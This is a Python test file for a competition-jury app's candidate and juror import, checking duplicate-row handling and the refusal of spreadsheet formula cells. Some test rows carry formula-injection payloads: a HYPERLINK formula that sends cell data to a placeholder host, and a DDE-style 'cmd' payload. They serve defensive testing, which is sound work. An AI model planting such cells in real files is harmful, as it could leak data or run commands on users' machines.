"""Imports never make twins and never store a spreadsheet formula (issue 19).

Two identical rows in a file used to create two candidates with one e-mail, re-importing a file created the
whole edition again, and a cell `=HYPERLINK(...)` was stored as typed. Now: a row repeating an earlier one
(same e-mail, or same name in the same commune) is refused with both lines named; a row naming a candidate
already in the edition is listed and skipped, or updated when the organiser asks; a cell a spreadsheet
would evaluate is refused with its column.
"""

from __future__ import annotations

import io

import openpyxl
from tests.imports.files import count_rows, csv_bytes, post_file, xlsx_bytes

from jury.db.queries import Database

ORGANISATION = ["nom_structure", "courriel", "code_insee", "forme_juridique", "montant_demande"]
JARDINS = ["Les Jardins d'Issy", "jardins@issy.org", "92040", "Association", "15 000"]
FOYER = ["Foyer de Vanves", "foyer@vanves.org", "92075", "Association", "8 000"]
EDITION = "progress-2024"


async def _import(client, rows, *, update: bool = False, dry_run: bool = False, xlsx: bool = False):
    content = xlsx_bytes(rows) if xlsx else csv_bytes(rows)
    path = f"/api/editions/{EDITION}/imports/candidats"
    params = {"update_existing": "true"} if update else {}
    if dry_run:
        params["dry_run"] = "true"
    return await client.post(
        path, params=params, files={"file": ("candidats.xlsx" if xlsx else "candidats.csv", content)}
    )


async def test_a_row_repeated_in_the_file_is_refused_naming_both_lines(import_client, db: Database) -> None:
    response = await _import(import_client, [ORGANISATION, JARDINS, FOYER, JARDINS])
    assert response.status_code == 422
    assert response.json() == {
        "status_code": 422,
        "detail": "Le fichier contient 1 erreur : rien n'a été importé.",
        "errors": [
            {
                "line": 4,
                "field": "courriel",
                "message": "Ligne 4 en double de la ligne 2 (même courriel « jardins@issy.org ») : "
                "gardez-en une seule.",
            }
        ],
    }
    assert await count_rows(db, "candidates") == 0


async def test_the_same_name_in_the_same_commune_is_a_repeat_too(import_client, db: Database) -> None:
    other_email = ["LES JARDINS D'ISSY", "contact@jardins-issy.fr", "92040", "Association", "15 000"]
    elsewhere = ["Les Jardins d'Issy", "jardins@boulogne.org", "92012", "Association", "15 000"]
    response = await _import(import_client, [ORGANISATION, JARDINS, elsewhere, other_email])
    assert response.status_code == 422
    assert response.json()["errors"] == [
        {
            "line": 4,
            "field": "nom_structure",
            "message": "Ligne 4 en double de la ligne 2 (même nom, même commune) : gardez-en une seule.",
        }
    ]
    assert await count_rows(db, "candidates") == 0


async def test_a_row_naming_a_candidate_of_the_edition_is_listed_and_skipped(
    import_client, db: Database
) -> None:
    first = await _import(import_client, [ORGANISATION, JARDINS])
    assert first.status_code == 201
    [candidate_id] = [r["id"] for r in await db.conn.fetch("select id from candidates")]

    again = await _import(import_client, [ORGANISATION, JARDINS, FOYER])
    assert again.status_code == 201
    report = again.json()
    assert (report["rows"], report["imported"], report.get("updated", 0)) == (2, 1, 0)
    assert report["existing"] == [
        {
            "line": 2,
            "candidate_id": candidate_id,
            "name": "Les Jardins d'Issy",
            "matched_on": "courriel",
            "updated": False,
        }
    ]
    emails = [r["email"] for r in await db.conn.fetch("select email from candidates order by id")]
    assert emails == ["jardins@issy.org", "foyer@vanves.org"]


async def test_asked_to_update_the_import_corrects_the_existing_candidate(
    import_client, db: Database
) -> None:
    assert (await _import(import_client, [ORGANISATION, JARDINS])).status_code == 201
    before = await db.conn.fetchrow("select id, entry_number from candidates")
    corrected = ["Les Jardins d'Issy", "jardins@issy.org", "92040", "Association", "12 500"]

    preview = await _import(import_client, [ORGANISATION, corrected], update=True, dry_run=True)
    assert preview.status_code == 200 and preview.json()["existing"][0]["updated"] is True
    assert await db.conn.fetchval("select requested_eur from candidates") == 15000

    response = await _import(import_client, [ORGANISATION, corrected], update=True)
    assert response.status_code == 201
    assert (response.json()["imported"], response.json()["updated"]) == (0, 1)
    after = await db.conn.fetchrow("select id, entry_number, requested_eur from candidates")
    assert (after["id"], after["entry_number"], after["requested_eur"]) == (
        before["id"],
        before["entry_number"],
        12500,
    )
    imports = await db.conn.fetchval("select count(*) from audit_events where action = 'candidates.import'")
    assert imports == 2  # the first import, then the update (a dry run writes nothing)


async def test_a_file_imported_again_with_its_numbers_is_not_refused(import_client, db: Database) -> None:
    """An exported file brought back carries each candidate's own number: not « already taken »."""
    artisans = ["nom_porteur", "nom_structure", "courriel", "code_insee", "numero", "creation"]
    zacchi = ["Fabienne Zacchi", "Comptoir des Pipelettes", "fabienne@pipelettes.fr", "92032", "7", "Folie"]
    path = "/api/editions/gateau-2023/imports/candidats"
    assert (await post_file(import_client, edition="gateau-2023", kind="candidats", name="a.csv",
                            content=csv_bytes([artisans, zacchi]))).status_code == 201  # fmt: skip
    other = ["Jean Autre", "Chez Jean", "jean@chez-jean.fr", "92032", "7", "Tarte"]
    again = await import_client.post(path, files={"file": ("a.csv", csv_bytes([artisans, other]))})
    assert again.status_code == 422
    assert again.json()["errors"] == [
        {"line": 2, "field": "numero", "message": "Numéro 7 déjà attribué à un candidat de l'édition."}
    ]
    same = await import_client.post(path, files={"file": ("a.csv", csv_bytes([artisans, zacchi]))})
    assert same.status_code == 201 and same.json()["existing"][0]["line"] == 2
    assert await count_rows(db, "candidates") == 1


async def test_a_cell_a_spreadsheet_would_evaluate_is_refused_with_its_column(
    import_client, db: Database
) -> None:
    hyperlink = [
        '=HYPERLINK("http://exemple.invalid/?"&A1;"Voir")',
        "x@asso.org",
        "92040",
        "Association",
        "5",
    ]
    at_sign = ["Asso du Plateau", "plateau@asso.org", "92040", "@SUM(1+1)*cmd|' /C calc'!A0", "5"]
    response = await _import(import_client, [ORGANISATION, hyperlink, at_sign])
    assert response.status_code == 422
    errors = response.json()["errors"]
    assert [(e["line"], e["field"]) for e in errors] == [(2, "nom_structure"), (3, "forme_juridique")]
    assert errors[0]["message"] == (
        'Valeur refusée : « =HYPERLINK("http://exemple.invalid/?"&A1… » commence par « = » et serait lue '
        "comme une formule par un tableur ; retirez ce caractère."
    )
    assert await count_rows(db, "candidates") == 0


async def test_a_workbook_text_cell_starting_a_formula_is_refused_too(import_client, db: Database) -> None:
    """A text cell that starts like a formula would become a formula again in the next export."""
    plus = ['+HYPERLINK("http://exemple.invalid")', "x@asso.org", "92040", "Association", "5"]
    at_sign = ["Asso du Plateau", "plateau@asso.org", "92040", "@SUM(1+1)", "5"]
    response = await _import(import_client, [ORGANISATION, plus, at_sign], xlsx=True)
    assert response.status_code == 422
    assert [(e["line"], e["field"]) for e in response.json()["errors"]] == [
        (2, "nom_structure"),
        (3, "forme_juridique"),
    ]
    assert await count_rows(db, "candidates") == 0


async def test_a_workbook_formula_cell_is_refused_naming_its_line_and_column(
    import_client, db: Database
) -> None:
    """openpyxl writes a string starting with `=` as a real formula cell (no cached value): it is refused
    in a text column and in a typed one alike, with the formula shown, and nothing is imported."""
    hyperlink = [
        '=HYPERLINK("http://exemple.invalid/?"&B2,"Voir")',
        "x@asso.org",
        "92040",
        "Association",
        "5",
    ]
    computed = ["Asso du Plateau", "plateau@asso.org", "92040", "Association", "=1000*2"]
    content = xlsx_bytes([ORGANISATION, FOYER, hyperlink, computed])
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    assert [workbook.active.cell(3, 1).data_type, workbook.active.cell(4, 5).data_type] == ["f", "f"]

    response = await import_client.post(
        f"/api/editions/{EDITION}/imports/candidats", files={"file": ("candidats.xlsx", content)}
    )
    assert response.status_code == 422
    assert response.json() == {
        "status_code": 422,
        "detail": "Le fichier contient 2 erreurs : rien n'a été importé.",
        "errors": [
            {
                "line": 3,
                "field": "nom_structure",
                "message": 'Formule refusée : la cellule contient la formule « =HYPERLINK("http://exemple.invalid/?"&B2… » ; '
                "remplacez-la par sa valeur (copier, puis collage spécial « valeurs seulement »).",
            },
            {
                "line": 4,
                "field": "montant_demande",
                "message": "Formule refusée : la cellule contient la formule « =1000*2 » ; remplacez-la par sa "
                "valeur (copier, puis collage spécial « valeurs seulement »).",
            },
        ],
    }
    assert await count_rows(db, "candidates") == 0


async def test_a_negative_amount_is_still_refused_as_an_amount_not_a_formula(import_client) -> None:
    response = await _import(
        import_client, [ORGANISATION, ["Asso", "a@asso.org", "92040", "Association", "-500"]]
    )
    assert response.json()["errors"] == [
        {"line": 2, "field": "montant_demande", "message": "Montant négatif : « -500 »."}
    ]


async def test_jurors_with_a_formula_are_refused_too(import_client, db: Database) -> None:
    content = csv_bytes([["nom", "courriel", "qualite"], ["+Léa Martin", "lea@exemple.fr", "-cheffe"]])
    response = await post_file(
        import_client, edition="made-in-92-2024", kind="jures", name="jures.csv", content=content
    )
    assert response.status_code == 422
    assert [(e["line"], e["field"]) for e in response.json()["errors"]] == [(2, "nom"), (2, "qualite")]
    assert await count_rows(db, "people") == 1  # the organiser only
